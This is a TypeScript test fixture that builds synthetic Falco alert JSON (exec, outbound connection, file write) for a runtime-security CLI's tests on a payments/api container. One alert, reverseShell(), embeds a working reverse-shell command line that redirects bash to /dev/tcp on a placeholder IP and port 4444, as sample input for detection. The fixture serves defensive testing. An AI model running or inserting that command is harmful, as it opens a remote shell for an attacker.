import { terminalShell } from '../sources/events/falco-alerts.js';

/**
 * Falco alerts for the `rampart runtime` CLI tests that the shared fixtures do not hold: a site
 * rule's reverse-shell exec, and execs/connects/writes of the payments/api container at chosen
 * times (for baselines). Same wire format as test/sources/events/falco-alerts.ts — Falco's
 * `json_output` with the rule's output fields — built on its container fields.
 */

type Json = Record<string, unknown>;

const CONTAINER_FIELDS = Object.fromEntries(Object.entries(terminalShell().output_fields as Json).filter(([k]) => k.startsWith('container.') || k.startsWith('k8s.')));
const CONTAINER_TEXT = 'container_id=8f2a7c9d1b3e container_image=registry.example.com/payments/api container_image_tag=1.4.2 container_name=api k8s_ns=payments k8s_pod_name=api-7d9c6b8f5-x2k4z';

function clock(time: string): string {
  return `${time.slice(11, 29)}`;
}

/** A site rule on execs whose command line redirects to /dev/tcp, spawned by the application (python3). */
export function reverseShell(): Json {
  const time = '2025-03-04T09:39:12.100200300Z';
  return {
    hostname: 'worker-2',
    output: `${clock(time)}: Warning Shell with a /dev/tcp redirection in a container (evt_type=execve user=app user_uid=1000 process=bash proc_exepath=/bin/bash parent=python3 command=bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 ${CONTAINER_TEXT})`,
    output_fields: {
      ...CONTAINER_FIELDS,
      'evt.type': 'execve',
      'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'proc.exepath': '/bin/bash',
      'proc.name': 'bash',
      'proc.pid': 48301,
      'proc.ppid': 48190,
      'proc.pname': 'python3',
      'proc.tty': 0,
      'user.name': 'app',
      'user.uid': 1000,
    },
    priority: 'Warning',
    rule: 'Reverse shell redirection in container',
    source: 'syscall',
    tags: ['T1059.004', 'container', 'mitre_execution', 'shell'],
    time,
  };
}

/** An exec in payments/api, as a site rule logging every exec prints it. */
export function exec(time: string, exe: string, cmdline: string, parent: string, pid: number): Json {
  const name = exe.split('/').pop() as string;
  return {
    hostname: 'worker-2',
    output: `${clock(time)}: Informational Process started in container (evt_type=execve user=app user_uid=1000 process=${name} proc_exepath=${exe} parent=${parent} command=${cmdline} ${CONTAINER_TEXT})`,
    output_fields: { ...CONTAINER_FIELDS, 'evt.type': 'execve', 'proc.cmdline': cmdline, 'proc.exepath': exe, 'proc.name': name, 'proc.pid': pid, 'proc.pname': parent, 'user.name': 'app', 'user.uid': 1000 },
    priority: 'Informational',
    rule: 'Site audit: exec in container',
    source: 'syscall',
    tags: ['container', 'process'],
    time,
  };
}

/** An outbound TCP connection from payments/api. */
export function connect(time: string, address: string, port: number, exe: string): Json {
  const name = exe.split('/').pop() as string;
  const tuple = `10.244.1.17:40112->${address}:${port}`;
  return {
    hostname: 'worker-2',
    output: `${clock(time)}: Informational Outbound connection from container (connection=${tuple} evt_type=connect process=${name} proc_exepath=${exe} ${CONTAINER_TEXT})`,
    output_fields: { ...CONTAINER_FIELDS, 'evt.type': 'connect', 'fd.l4proto': 'tcp', 'fd.name': tuple, 'fd.rport': port, 'fd.lport': 40112, 'fd.type': 'ipv4', 'proc.exepath': exe, 'proc.name': name },
    priority: 'Informational',
    rule: 'Site audit: outbound connection',
    source: 'syscall',
    tags: ['container', 'network'],
    time,
  };
}

/** A file opened for writing in payments/api. */
export function write(time: string, file: string, exe: string): Json {
  const name = exe.split('/').pop() as string;
  return {
    hostname: 'worker-2',
    output: `${clock(time)}: Informational File opened for writing (file=${file} flags=O_WRONLY|O_CREAT|O_TRUNC evt_type=openat process=${name} proc_exepath=${exe} ${CONTAINER_TEXT})`,
    output_fields: { ...CONTAINER_FIELDS, 'evt.arg.flags': 'O_WRONLY|O_CREAT|O_TRUNC', 'evt.type': 'openat', 'fd.name': file, 'proc.exepath': exe, 'proc.name': name },
    priority: 'Informational',
    rule: 'Site audit: file written',
    source: 'syscall',
    tags: ['container', 'filesystem'],
    time,
  };
}

/** JSON lines, as Falco's file output and the API server's audit log are written. */
export function jsonLines(values: readonly unknown[]): string {
  return values.map((v) => `${JSON.stringify(v)}\n`).join('');
}
